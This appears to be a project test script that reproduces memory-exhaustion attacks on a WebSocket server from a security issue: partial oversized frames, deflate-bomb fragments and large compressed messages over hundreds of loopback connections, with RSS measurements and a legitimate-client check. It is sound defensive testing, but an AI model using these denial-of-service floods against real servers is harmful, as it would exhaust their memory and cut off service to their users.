#!/usr/bin/env python3
"""Memory probe: the attacks and measurements of issue 15 (findings 2 and 6) against a running server.

Opens many WebSocket connections from 127.0.0.1-127.0.0.N (raw sockets, standard library only), makes each one
hold memory on the server in one of three ways, and reports the server's resident memory (VmRSS of --pid, sampled
every 100 ms), the close codes the connections got and when, and whether a well-behaved client is still served:

  partial-frames     each connection announces one binary frame of --size bytes and sends all of it but the
                     last byte (issue 15: 15 MiB partial frames from 380 connections)
  deflate-fragments  each connection negotiates permessage-deflate and sends one unfinished compressed fragment
                     that inflates to --size bytes of zeros (issue 15: 16 KB inflating to 15.9 MiB, 450 connections)
  deflate-messages   each connection negotiates permessage-deflate, sends one text message of --size bytes of chat
                     words, reads the echo, and stays open (issue 15 finding 6: RSS per connection); then all close
                     with a close handshake, and RSS is taken again after --settle seconds

Example (the server in another terminal, e.g. java -jar server-example/target/chat-server.jar --port 8080):

  python3 scripts/memory-probe.py --pid $(pgrep -f chat-server.jar) --url ws://127.0.0.1:8080/echo \\
      deflate-fragments --connections 450 --size 16672358

Prints one line per phase. Loopback only; every connection is closed (reset for the attacks) before it exits.
"""
import argparse
import asyncio
import base64
import os
import random
import socket
import struct
import sys
import time
import zlib
from collections import Counter
from urllib.parse import urlparse

WORDS = ("the a to and of is in it you that for on this with have are be at not was hello anyone here tonight "
         "build deploy netty websocket server client message room lobby ok thanks lol yes no maybe later").split()


def rss_kib(pid):
    with open("/proc/%d/status" % pid) as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return 0


def frame(opcode, payload, fin=True, rsv1=False):
    """A masked client frame (RFC 6455 §5.2)."""
    b0 = (0x80 if fin else 0) | (0x40 if rsv1 else 0) | opcode
    length = len(payload)
    if length < 126:
        head = struct.pack("!BB", b0, 0x80 | length)
    elif length < 65536:
        head = struct.pack("!BBH", b0, 0x80 | 126, length)
    else:
        head = struct.pack("!BBQ", b0, 0x80 | 127, length)
    key = os.urandom(4)
    masked = bytes(b ^ key[i & 3] for i, b in enumerate(payload)) if length < 4096 else mask_large(payload, key)
    return head + key + masked


def mask_large(payload, key):
    repeated = (key * (len(payload) // 4 + 1))[:len(payload)]
    return (int.from_bytes(payload, "big") ^ int.from_bytes(repeated, "big")).to_bytes(len(payload), "big")


def header_only(opcode, length, fin=True, rsv1=False):
    b0 = (0x80 if fin else 0) | (0x40 if rsv1 else 0) | opcode
    return struct.pack("!BBQ", b0, 0x80 | 127, length) + b"\0\0\0\0"  # key 0: the payload goes as it is


class Connection:
    def __init__(self, reader, writer, extensions):
        self.reader = reader
        self.writer = writer
        self.extensions = extensions
        self.close_code = None
        self.closed_at = None
        self.ended = False
        self.sent_at = None

    async def read_frame(self):
        b0, b1 = await self.reader.readexactly(2)
        length = b1 & 0x7F
        if length == 126:
            length = struct.unpack("!H", await self.reader.readexactly(2))[0]
        elif length == 127:
            length = struct.unpack("!Q", await self.reader.readexactly(8))[0]
        return b0, await self.reader.readexactly(length)

    async def watch(self):
        """Records the close code (or the end of the connection) the server gives, and how long after our send."""
        try:
            while True:
                b0, payload = await self.read_frame()
                if b0 & 0x0F == 0x8:
                    self.close_code = struct.unpack("!H", payload[:2])[0] if len(payload) >= 2 else 1005
                    self.closed_at = time.monotonic() - self.sent_at
                    return
        except (asyncio.IncompleteReadError, ConnectionError, OSError):
            self.ended = True
            self.closed_at = time.monotonic() - self.sent_at

    def reset(self):
        sock = self.writer.get_extra_info("socket")
        try:
            if sock is not None:
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        except OSError:
            pass  # already closed by the server
        self.writer.close()


async def connect(url, source, deflate):
    parsed = urlparse(url)
    reader, writer = await asyncio.open_connection(parsed.hostname, parsed.port, local_addr=(source, 0),
                                                   limit=1 << 26)
    key = base64.b64encode(os.urandom(16)).decode()
    request = ("GET %s HTTP/1.1\r\nHost: %s:%d\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
               "Sec-WebSocket-Key: %s\r\nSec-WebSocket-Version: 13\r\n" % (parsed.path or "/", parsed.hostname,
                                                                          parsed.port, key))
    if deflate:
        request += "Sec-WebSocket-Extensions: permessage-deflate; client_max_window_bits\r\n"
    writer.write((request + "\r\n").encode())
    head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 20)
    if not head.startswith(b"HTTP/1.1 101"):
        raise RuntimeError("handshake refused: %r" % head[:80])
    extensions = [line.split(b":", 1)[1].strip().decode() for line in head.split(b"\r\n")
                  if line.lower().startswith(b"sec-websocket-extensions:")]
    return Connection(reader, writer, extensions)


async def send_payload(conn, watcher, length):
    """Sends {length} zero bytes of a frame's payload, 1 MiB at a time, unless the server ends the connection."""
    chunk = bytes(1 << 20)
    try:
        while length > 0 and not watcher.done():
            n = min(len(chunk), length)
            conn.writer.write(chunk[:n])
            await asyncio.wait_for(conn.writer.drain(), 10)
            length -= n
    except (ConnectionError, OSError, asyncio.TimeoutError):
        pass


def chat_text(size, seed):
    rng = random.Random(seed)
    words = []
    length = 0
    while length < size:
        word = rng.choice(WORDS)
        words.append(word)
        length += len(word) + 1
    return " ".join(words)[:size]


async def legit_echo(url):
    """A well-behaved client: a small message echoed, timed."""
    started = time.monotonic()
    try:
        conn = await asyncio.wait_for(connect(url, "127.0.0.1", False), 10)
        conn.writer.write(frame(0x1, b"still serving"))
        b0, payload = await asyncio.wait_for(conn.read_frame(), 10)
        conn.writer.write(frame(0x8, struct.pack("!H", 1000)))
        conn.writer.close()
        return "echo %s in %.0f ms" % ("ok" if payload == b"still serving" else "WRONG", 1000 * (time.monotonic()
                                                                                                - started))
    except Exception as e:  # noqa: BLE001 - reported, not raised
        return "FAILED after %.1f s: %s" % (time.monotonic() - started, type(e).__name__)


async def sample_rss(pid, peak, stop):
    while not stop.is_set():
        peak[0] = max(peak[0], rss_kib(pid))
        await asyncio.sleep(0.1)


async def run(args):
    pid = args.pid
    sources = ["127.0.0.%d" % (i + 1) for i in range(args.sources)]
    deflate = args.mode != "partial-frames"
    before = rss_kib(pid)
    print("server RSS before: %.1f MiB" % (before / 1024), flush=True)
    peak = [before]
    stop = asyncio.Event()
    sampler = asyncio.ensure_future(sample_rss(pid, peak, stop))
    if args.mode == "deflate-fragments":
        compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
        compressed = compressor.compress(bytes(args.size)) + compressor.flush(zlib.Z_SYNC_FLUSH)
        payload = frame(0x2, compressed[:-4], fin=False, rsv1=True)
        print("each fragment: %d bytes on the wire, %d inflated" % (len(payload), args.size), flush=True)
    elif args.mode == "partial-frames":
        payload = header_only(0x2, args.size)
    else:
        payload = frame(0x1, chat_text(args.size, 1).encode())

    conns = []
    watchers = []
    started = time.monotonic()
    refused = 0
    for i in range(args.connections):
        try:
            conn = await connect(args.url, sources[i % len(sources)], deflate)
        except Exception as e:  # noqa: BLE001 - the server may refuse, or time out, under attack
            refused += 1
            if refused <= 3:
                print("connection %d: %s: %s" % (i, type(e).__name__, e), flush=True)
            continue
        conns.append(conn)
        conn.sent_at = time.monotonic()
        conn.writer.write(payload)
        if args.mode == "deflate-messages":
            await conn.read_frame()
        else:
            watcher = asyncio.ensure_future(conn.watch())
            watchers.append(watcher)
            if args.mode == "partial-frames":
                await send_payload(conn, watcher, args.size - 1)
        if (i + 1) % 100 == 0:
            try:
                await asyncio.wait_for(conn.writer.drain(), 10)
            except (ConnectionError, OSError, asyncio.TimeoutError):
                pass
    sent = time.monotonic() - started
    print("%d connections open (%d refused) in %.1f s" % (len(conns), refused, sent), flush=True)
    await asyncio.sleep(args.hold)
    held_rss = rss_kib(pid)
    print("legit client while held: %s" % await legit_echo(args.url), flush=True)
    if args.mode == "deflate-messages":
        takeover = sum(1 for c in conns if c.extensions and "client_no_context_takeover" not in c.extensions[0])
        print("RSS with %d connections: %.1f MiB, +%.1f KiB per connection; %d kept client context takeover"
              % (len(conns), held_rss / 1024, (held_rss - before) / max(1, len(conns)), takeover), flush=True)
        for conn in conns:
            conn.writer.write(frame(0x8, struct.pack("!H", 1000)))
        await asyncio.sleep(1)
        for conn in conns:
            conn.writer.close()
    else:
        codes = Counter(c.close_code if c.close_code is not None else ("ended" if c.ended else "open")
                        for c in conns)
        times = sorted(c.closed_at for c in conns if c.closed_at is not None)
        print("outcomes: %s" % dict(codes), flush=True)
        if times:
            print("time from its send to its close: min %.3f s, median %.3f s, max %.3f s"
                  % (times[0], times[len(times) // 2], times[-1]), flush=True)
        print("RSS held: %.1f MiB, peak %.1f MiB (before %.1f MiB)" % (held_rss / 1024, peak[0] / 1024,
                                                                       before / 1024), flush=True)
        for conn in conns:
            conn.reset()
        for watcher in watchers:
            watcher.cancel()
    await asyncio.sleep(args.settle)
    stop.set()
    await sampler
    print("RSS %d s after every connection closed: %.1f MiB (peak %.1f MiB)" % (args.settle, rss_kib(pid) / 1024,
                                                                              peak[0] / 1024), flush=True)
    if args.trim:
        # What of it is freed memory the JVM or glibc keeps: a full GC, then glibc's malloc_trim (JDK 17.0.9+).
        for command in (["GC.run"], ["System.trim_native_heap"]):
            proc = await asyncio.create_subprocess_exec("jcmd", str(pid), *command, stdout=asyncio.subprocess.DEVNULL)
            await proc.wait()
            await asyncio.sleep(1)
            print("RSS after jcmd %s: %.1f MiB" % (command[0], rss_kib(pid) / 1024), flush=True)


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--pid", type=int, required=True, help="the server process, for its RSS")
    parser.add_argument("--url", default="ws://127.0.0.1:8080/echo")
    parser.add_argument("--sources", type=int, default=8, help="source addresses 127.0.0.1-N (per-address limits)")
    parser.add_argument("--hold", type=float, default=3.0, help="seconds to hold before measuring")
    parser.add_argument("--settle", type=int, default=5, help="seconds after closing before the last RSS")
    parser.add_argument("--trim", action="store_true",
                        help="after closing: jcmd GC.run, then jcmd System.trim_native_heap, RSS after each")
    parser.add_argument("mode", choices=["partial-frames", "deflate-fragments", "deflate-messages"])
    parser.add_argument("--connections", type=int, default=100)
    parser.add_argument("--size", type=int, default=1 << 20)
    args = parser.parse_args()
    asyncio.run(run(args))
    return 0


if __name__ == "__main__":
    sys.exit(main())
